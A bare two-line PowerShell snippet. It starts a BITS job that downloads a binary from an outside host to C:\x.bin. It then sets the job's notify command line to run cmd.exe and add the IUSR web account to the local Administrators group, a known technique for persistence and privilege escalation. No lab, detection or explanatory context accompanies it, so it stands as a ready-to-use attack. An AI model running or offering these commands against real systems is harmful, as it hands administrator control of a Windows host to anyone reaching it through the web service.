$job = Start-BitsTransfer -Source https://packages.contoso.com/x.bin -Destination C:\x.bin -Asynchronous
Set-BitsTransfer -BitsJob $job -NotifyCmdLine 'C:\Windows\System32\cmd.exe','/c net localgroup Administrators IUSR /add'
